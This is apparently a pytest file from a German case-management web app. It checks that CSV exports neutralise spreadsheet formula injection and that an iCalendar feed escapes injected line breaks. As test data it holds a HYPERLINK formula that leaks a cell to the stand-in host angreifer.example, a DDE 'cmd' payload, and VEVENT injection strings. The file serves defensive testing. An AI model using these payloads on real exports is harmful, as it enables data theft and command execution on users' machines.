"""Exports and feeds (security review, issue 13, finding 7): what a case or deadline carries
must not become a formula in the Leitung's spreadsheet nor a line of its own in the
iCalendar feed (escaped where it leaves, whatever got into the index)."""
from __future__ import annotations

import csv
import io
import re

import pytest
from icalendar import Calendar

from webapp.board.export import CSV_COLUMNS
from workflows import store as tables
from workflows.board import BoardQuery
from workflows.domain import ScriptError

from ..helpers import LVR_CHILD, PARTIES_LVR, login, script_model

EVIL_LINK = '=HYPERLINK("https://angreifer.example/?a="&A2;"Akte öffnen")'
#: a line break in a cell, and a made-up row behind it
FAKE_ROW = "\r\nLVR-FF-2026-9999;=1+1;"


def _set(app, table, values, **where) -> None:
    with app.extensions["workflows"].store.transaction() as conn:
        conn.execute(table.update().where(*(table.c[k] == v for k, v in where.items())).values(**values))


def _csv(app) -> list[list[str]]:
    response = login(app, "lena.leitung").get("/fristen/export.csv")
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"), newline=""), delimiter=";"))


def _board(app) -> list[dict]:
    workflows = app.extensions["workflows"]
    rows, _total = workflows.board(workflows.actor("lena.leitung"), BoardQuery(limit=100_000))
    return rows


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_excel_would_run_are_neutralised(app, start):
    title = start + EVIL_LINK[1:] + FAKE_ROW
    _set(app, tables.instances, {"title": title}, business_key=LVR_CHILD)
    _set(app, tables.deadlines, {"legal_basis": "@SUMME(A1:A9)", "title": "+1+cmd|' /C calc'!A0"},
         business_key=LVR_CHILD)
    rows = _csv(app)
    assert len(rows) == len(_board(app)) + 1                   # the line break added no row
    assert all(len(row) == len(CSV_COLUMNS) for row in rows)
    assert not any(row[0] == "LVR-FF-2026-9999" for row in rows)
    mine = [row for row in rows[1:] if row[0] == LVR_CHILD]
    assert mine and all(row[1] == "'" + title for row in mine)
    assert all(row[2] == "'+1+cmd|' /C calc'!A0" and row[3] == "'@SUMME(A1:A9)" for row in mine)


def test_csv_numbers_and_dates_stay_usable(app):
    """Negative day counts and dates are ours, not free text: no quote, Excel reads them as
    numbers and dates. Free text that merely looks like a number is still text."""
    _set(app, tables.instances, {"title": "-5"}, business_key=LVR_CHILD)
    rows = _csv(app)[1:]
    days = [row[7] for row in rows]
    assert all(re.fullmatch(r"-?\d+", d) for d in days) and any(d.startswith("-") for d in days)
    assert all(re.fullmatch(r"-?\d+", row[8]) for row in rows)
    assert all(re.fullmatch(r"\d\d\.\d\d\.\d{4}", row[col]) for row in rows for col in (4, 5, 6))
    assert {row[1] for row in rows if row[0] == LVR_CHILD} == {"'-5"}


HOSTILE_LEGAL = "§ 8 Abs. 1; S. 4, FrühV\r\nATTACH:https://angreifer.example/x\\"
HOSTILE_TITLE = "Entscheidung\nEND:VEVENT\r\nBEGIN:VEVENT\rSUMMARY:eingeschleust"
HOSTILE_EXPLANATION = "Fristbeginn; Ende, verschoben\n\nDTSTART:19700101"


def _events(app) -> tuple[str, list]:
    response = login(app, "lena.leitung").get("/fristen/kalender.ics")
    assert response.status_code == 200 and response.mimetype == "text/calendar"
    body = response.data.decode("utf-8")
    [calendar] = Calendar.from_ical(body, multiple=True)
    return body, calendar.walk("VEVENT")


def _assert_well_formed(body: str) -> None:
    assert body.startswith("BEGIN:VCALENDAR\r\n") and body.endswith("END:VCALENDAR\r\n")
    lines = body.split("\r\n")
    assert "\r" not in body.replace("\r\n", "") and "\n" not in body.replace("\r\n", "")
    assert all(len(line.encode("utf-8")) <= 75 for line in lines)         # folded (RFC 5545 3.1)


def test_icalendar_values_are_escaped_where_they_leave(app):
    _set(app, tables.deadlines, {"legal_basis": HOSTILE_LEGAL, "title": HOSTILE_TITLE,
                                 "explanation": HOSTILE_EXPLANATION}, business_key=LVR_CHILD)
    expected = {f"{r['business_key']}-{r['key']}@fruehfoerderung.nrw": r for r in _board(app)}
    body, events = _events(app)
    _assert_well_formed(body)
    assert len(events) == len(expected) and {str(e["UID"]) for e in events} == set(expected)
    assert body.split("\r\n").count("BEGIN:VEVENT") == len(expected)
    mine = [e for e in events if LVR_CHILD in str(e["UID"])]
    assert mine
    for event in events:
        assert set(event) <= {"UID", "DTSTAMP", "DTSTART", "DTEND", "SUMMARY", "DESCRIPTION"}, event
        row = expected[str(event["UID"])]
        assert event.decoded("DTSTART") == row["shifted_end"]
    for event in mine:
        summary, description = str(event["SUMMARY"]), str(event["DESCRIPTION"])
        assert summary == f"{HOSTILE_TITLE} – {LVR_CHILD}".replace("\r\n", "\n").replace("\r", "\n")
        assert HOSTILE_LEGAL.replace("\r\n", "\n") in description
        assert HOSTILE_EXPLANATION in description


def test_a_deadline_key_with_a_line_break_is_refused_and_harmless_in_the_feed(app):
    """Where it enters: a model script's deadline key must be an identifier (engine
    DEADLINE_KEY). Where it leaves: even a key that got into the index some other way
    (an old version, a hand-edited database) stays inside its UID."""
    workflows = app.extensions["workflows"]
    owner, sabine = workflows.actor("paula.prozess"), workflows.actor("sabine.lvr")
    workflows.deploy_model({"s.bpmn": script_model(
        'frist("a\\r\\nBEGIN:VEVENT", "sgb9-14-zustaendigkeit", "2026-03-02")')}, owner)
    workflows.start_case("skript_daten", "LVR-FF-2026-0999", {}, sabine, parties=PARTIES_LVR)
    [task] = workflows.case("LVR-FF-2026-0999", sabine)["open_tasks"]
    with pytest.raises(ScriptError, match="Schlüssel einer Frist"):
        workflows.complete_task(task["task_id"], {}, sabine)

    before = len(_board(app))
    [key, *_rest] = [r["key"] for r in _board(app) if r["business_key"] == LVR_CHILD]
    hostile = "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:eingeschleust"
    _set(app, tables.deadlines, {"key": hostile}, business_key=LVR_CHILD, key=key)
    body, events = _events(app)
    _assert_well_formed(body)
    assert len(events) == before and body.split("\r\n").count("BEGIN:VEVENT") == before
    assert f"{LVR_CHILD}-x\nEND:VEVENT\nBEGIN:VEVENT\nUID:eingeschleust@fruehfoerderung.nrw" in {
        str(e["UID"]) for e in events}
